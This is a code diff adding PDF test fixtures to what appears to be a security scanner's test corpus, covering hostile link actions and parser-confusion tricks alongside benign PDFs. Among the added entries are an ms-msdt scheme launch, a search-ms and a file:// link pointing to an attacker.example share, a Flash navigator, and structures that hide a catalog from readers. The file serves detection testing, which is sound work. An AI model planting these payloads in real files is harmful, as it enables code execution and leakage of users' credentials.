@@ -88,7 +88,9 @@ import {
   UNC_SHARE,
 } from '../../fixtures/active-ofd.ts';
 import {
+  annotatedPage,
   bigImage,
+  brokenPageTreePdf,
   buildClassicPdf,
   buildPdf,
   directRootPdf,
@@ -98,6 +100,7 @@ import {
   incrementalUpdate,
   incrementalUpdateXrefStream,
   lengthDefinedTwicePdf,
+  linearizedElsewherePdf,
   linkAnnotations,
   outlineItem,
   type Packing,
@@ -105,7 +108,12 @@ import {
   packedUnderAnotherNumberPdf,
   type PdfObj,
   predictorByReferencePdf,
+  prevByReferencePdf,
   rebuiltFromStreamDataPdf,
+  reusedNumberPdf,
+  spoiledRowPdf,
+  startxrefInStreamDataPdf,
+  updateWithGenerations,
   utf16Hex,
 } from '../../fixtures/active-pdf.ts';
 import { buildZip, docxEntries, MiB, windowsExecutable } from '../../fixtures/files.ts';
@@ -685,6 +693,49 @@ const huntedPdfs: CorpusItem[] = [
       { packed: [6], packing: 'lzw' },
     ),
   ),
+  // A number reused at generation 1 while the page a reader loads still refers to 6 0 R: pdf.js rebuilds the file.
+  hunted('pdf-reused-number-old-generation-current', 'PDF_UNREADABLE', () =>
+    updateWithGenerations(buildClassicPdf(annotatedPage()), [
+      { num: 6, gen: 1, body: '<< /Type /Annot /Subtype /Square /Rect [0 0 9 9] >>' },
+    ]),
+  ),
+  // A URL file specification handed to a program by its scheme: ms-msdt ran the link's own script.
+  hunted('pdf-gotor-url-spec-ms-msdt', 'PDF_ACTION', () =>
+    buildPdf(linkAnnotations('<< /S /GoToR /F << /FS /URL /F (ms-msdt:/id PCWDiagnostic /skip force) >> >>')),
+  ),
+  hunted('pdf-thread-url-spec-search-ms', 'PDF_ACTION', () =>
+    buildClassicPdf(
+      linkAnnotations(
+        '<< /S /Thread /F << /FS /URL /UF (search-ms:query=x&crumb=location:\\\\attacker.example\\s) >> /D 0 >>',
+      ),
+    ),
+  ),
+  // The catalog's /URI dictionary by reference: a relative link resolves into the share it names.
+  hunted('pdf-uri-base-by-reference-share', 'PDF_ACTION', () =>
+    buildPdf([
+      { num: 1, body: '<< /Type /Catalog /Pages 2 0 R /URI 9 0 R >>' },
+      ...linkAnnotations('<< /S /URI /URI (annex.pdf) >>').slice(1),
+      { num: 9, body: '<< /Base (file://attacker.example/share/) >>' },
+    ]),
+  ),
+  // A portfolio's Flash navigator, run by Acrobat 9 and X to show the portfolio.
+  hunted('pdf-portfolio-navigator', 'PDF_SCRIPT', () =>
+    buildPdf(
+      pageObjects(
+        `/Collection << /View /C /Navigator << /Layout /Tile /Resources << /Names [(nav.swf) ${URL_SPEC}] >> >> >>`,
+      ),
+    ),
+  ),
+  // Readers start elsewhere than the scan did: at a last `startxref` in stream data, at a /Prev
+  // written as a reference (pdf.js), after a linearized file's first object (pdf.js).
+  hunted('pdf-startxref-in-stream-data', 'PDF_UNREADABLE', startxrefInStreamDataPdf),
+  hunted('pdf-prev-by-reference-hidden-table', 'PDF_UNREADABLE', prevByReferencePdf),
+  hunted('pdf-linearized-start-elsewhere', 'PDF_UNREADABLE', linearizedElsewherePdf),
+  // A catalog whose /Pages is no dictionary: pdf.js rebuilds from all bytes and opens the catalog hidden in an image.
+  hunted('pdf-pages-missing-hidden-catalog', 'PDF_UNREADABLE', () => brokenPageTreePdf('/Pages 8 0 R')),
+  hunted('pdf-pages-a-stream-hidden-catalog', 'PDF_UNREADABLE', () => brokenPageTreePdf('/Pages 4 0 R')),
+  // A table row pdf.js cannot read: it refuses the table and rebuilds from all bytes.
+  hunted('pdf-table-row-spoiled-hidden-catalog', 'PDF_UNREADABLE', spoiledRowPdf),
 ];
 
 /** PDFs whose structure cannot be read whole. */
@@ -2561,6 +2612,39 @@ export const ACTIVE_GENUINE: readonly {
     declared: 'docx',
     // A text box with a page number, as Word writes it: once in the drawing, once in its VML.
     bytes: () => documentWith(alternateFields(complexField(' PAGE '), complexField(' PAGE '))),
+  },
+  {
+    // A note deleted and its number reused at generation 1 (`6 1 obj`), as Acrobat saves: the old page still says 6 0 R.
+    id: 'pdf-update-reuses-number-next-generation',
+    declared: 'pdf',
+    bytes: async () => reusedNumberPdf(2),
+  },
+  {
+    // Layers switched, a field hidden, a page transition: actions that change only what the page shows.
+    id: 'pdf-links-setocgstate-hide-trans',
+    declared: 'pdf',
+    bytes: async () =>
+      buildPdf(
+        linkAnnotations(
+          '<< /S /SetOCGState /State [/Toggle 9 0 R] >>',
+          '<< /S /Hide /T (note) /H false >>',
+          '<< /S /Trans /Trans << /S /Dissolve >> >>',
+        ),
+      ),
+  },
+  {
+    // Prepress OPI: the original image a prepress server swaps in; no reader opens it.
+    id: 'pdf-image-opi-dictionary',
+    declared: 'pdf',
+    bytes: async () =>
+      buildPdf([
+        ...pageObjects('', '/Resources << /XObject << /Im1 6 0 R >> >>'),
+        {
+          num: 6,
+          body: '/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /OPI << /2.0 << /Type /OPI /Version 2.0 /F (art/cluster-map.tif) /Inks /full_color >> >>',
+          stream: Buffer.alloc(1),
+        },
+      ]),
   },
 ];
 
